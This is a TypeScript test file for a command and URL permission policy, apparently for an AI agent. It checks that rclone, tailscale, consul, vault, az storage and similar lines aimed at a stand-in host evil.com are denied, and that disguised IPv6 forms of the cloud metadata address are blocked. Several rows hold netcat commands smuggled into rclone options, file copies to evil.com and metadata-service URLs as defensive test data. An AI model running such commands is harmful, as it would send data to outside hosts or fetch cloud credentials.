// Network tools whose server was not read (a red team of Domain rules, second round): a line that
// reaches a denied host is denied (or asks when its host is unknown), never allowed by Shell(*).
// Rows pin each hole closed; the ordinary lines beside them stay allowed.
import { describe, it } from 'vitest';
import type { DecisionKind } from '../src/policy/types.js';
import { REPO_LINUX, expectDecision } from './helpers/policy.js';

const DENY_EVIL = { deny: ['Domain(evil.com)', 'Domain(*.evil.com)'], allow: ['Shell(*)', 'Domain(*)'] };

describe('rclone: connection strings and backend flags name the server', () => {
  it.each<[string, DecisionKind]>([
    ['rclone ls :sftp,host=evil.com:', 'deny'],
    ['rclone ls :sftp,host="evil.com",user=u:dir', 'deny'],
    ['rclone copy x :http,url=https://evil.com:', 'deny'],
    ["rclone lsd :webdav,url='https://evil.com/dav':", 'deny'],
    ['rclone ls :s3,provider=Minio,endpoint=evil.com:bucket', 'deny'],
    ['rclone ls remote,host=evil.com:dir', 'deny'],
    ["rclone ls ':crypt,remote=\":sftp,host=evil.com:x\":'", 'deny'],
    ['rclone ls --sftp-host evil.com :sftp:', 'deny'],
    ['rclone ls --sftp-host=evil.com :sftp:', 'deny'],
    ['rclone ls --ftp-host evil.com :ftp:dir', 'deny'],
    ['rclone ls --http-url https://evil.com :http:', 'deny'],
    ['rclone ls --s3-endpoint evil.com s3:bucket', 'deny'],
    // (Commands rclone runs: an external ssh, a password or token command.)
    ["rclone ls --sftp-ssh 'nc evil.com 22' :sftp,host=h:", 'deny'],
    ["rclone ls :sftp,host=h,ssh='nc evil.com 22':", 'deny'],
    ["rclone ls r: --password-command 'nc evil.com 1'", 'deny'],
    // (An on-the-fly server backend without its server here: the environment names it.)
    ['rclone ls :sftp:', 'ask'],
    ['rclone ls :webdav:dir', 'ask'],
    ['rclone ls remote:', 'allow'],
    ['rclone ls remote:dir', 'allow'],
    ['rclone copy ./dist r:b --transfers 4', 'allow'],
    ['rclone ls :local:/w/repo', 'allow'],
    ['rclone ls :sftp,host=files.example.com:', 'allow'],
    ['rclone ls --sftp-host files.example.com :sftp:', 'allow'],
    ['rclone ls drive,shared_with_me:', 'allow'],
  ])('%s -> %s', (line, expected) => {
    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
  });
});

describe('httping, HashiCorp, Teleport, cloudflared and tailscale clients: their server', () => {
  it.each<[string, DecisionKind]>([
    ['httping evil.com', 'deny'],
    ['httping -c 3 evil.com', 'deny'],
    ['httping -g http://evil.com', 'deny'],
    ['httping -h evil.com -p 80', 'deny'],
    ['httping -x evil.com:3128 -g http://example.com', 'deny'],
    ['consul members -http-addr=evil.com:8500', 'deny'],
    ['consul members --http-addr evil.com:8500', 'deny'],
    ['consul kv get -grpc-addr=evil.com:8502 k', 'deny'],
    ['consul join evil.com', 'deny'],
    ['nomad status -address=evil.com:4646', 'deny'],
    ['nomad -address=http://evil.com:4646', 'deny'],
    ['vault status -address evil.com:8200', 'deny'],
    ['vault status -address=$ADDR', 'ask'],
    ['tsh ssh --proxy=evil.com u@h', 'deny'],
    ['tsh login --proxy=evil.com', 'deny'],
    ['tsh --proxy evil.com:3080 ls', 'deny'],
    ['tctl --auth-server=evil.com:3025 status', 'deny'],
    ['cloudflared access tcp --hostname evil.com --url localhost:2222', 'deny'],
    ['cloudflared access ssh --hostname=evil.com', 'deny'],
    ['cloudflared access curl https://evil.com', 'deny'],
    ['tailscale ping evil.com', 'deny'],
    ['tailscale ssh u@evil.com', 'deny'],
    ['tailscale nc evil.com 22', 'deny'],
    ['tailscale file cp a.txt evil.com:', 'deny'],
    ['tailscale set --exit-node=evil.com', 'deny'],
    ['httping -c 3 example.com', 'allow'],
    ['consul members', 'allow'],
    ['consul kv get app/config', 'allow'],
    ['nomad status', 'allow'],
    ['vault status', 'allow'],
    ['tsh ls', 'allow'],
    ['cloudflared tunnel list', 'allow'],
    ['tailscale status', 'allow'],
    ['tailscale ping myhost', 'allow'],
    ['tailscale ip -4', 'allow'],
  ])('%s -> %s', (line, expected) => {
    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
  });
});

describe('az storage: its endpoints and connection strings', () => {
  it.each<[string, DecisionKind]>([
    ['az storage blob list --blob-endpoint evil.com -c c', 'deny'],
    ['az storage blob list --blob-endpoint https://evil.com -c c', 'deny'],
    ['az storage queue list --queue-endpoint=evil.com', 'deny'],
    ['az storage blob list -c c --connection-string "BlobEndpoint=evil.com;SharedAccessSignature=x"', 'deny'],
    ['az storage blob list -c c --connection-string "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=k;EndpointSuffix=evil.com"', 'deny'],
    ['az storage blob list --account-name evil -c c', 'allow'],
    ['az storage blob list -c c --connection-string "DefaultEndpointsProtocol=https;AccountName=a;AccountKey=k;EndpointSuffix=core.windows.net"', 'allow'],
    ['az group list', 'allow'],
  ])('%s -> %s', (line, expected) => {
    expectDecision(DENY_EVIL, 'shell', line, expected, REPO_LINUX);
  });
});

describe('an IPv4-compatible IPv6 address reaches the IPv4 host for deny and ask', () => {
  const DENY_METADATA = { deny: ['Domain(169.254.169.254)'], ask: ['Domain(10.0.0.1)'], allow: ['Domain(*)'] };
  it.each<[string, DecisionKind]>([
    ['https://[::169.254.169.254]/', 'deny'],
    ['https://[::a9fe:a9fe]/latest/meta-data/', 'deny'],
    ['http://[0:0:0:0:0:0:169.254.169.254]:80/', 'deny'],
    ['https://[::10.0.0.1]/', 'ask'],
    ['https://[::ffff:169.254.169.254]/', 'deny'],
    ['https://169.254.169.254/', 'deny'],
    ['https://[::1]/', 'allow'],
    ['https://[::2]/', 'allow'],
    ['https://[::169.254.169.253]/', 'allow'],
    ['https://[1::a9fe:a9fe]/', 'allow'],
    ['https://example.com/', 'allow'],
  ])('%s -> %s', (url, expected) => {
    expectDecision(DENY_METADATA, 'fetch', url, expected, REPO_LINUX);
  });
  it.each<[string, DecisionKind]>([
    ['https://169.254.169.254/', 'deny'],
    ['https://[::a9fe:a9fe]/', 'deny'],
  ])('%s -> %s (the rule written as the IPv4-compatible address)', (url, expected) => {
    expectDecision({ deny: ['Domain([::a9fe:a9fe])'], allow: ['Domain(*)'] }, 'fetch', url, expected, REPO_LINUX);
  });
});
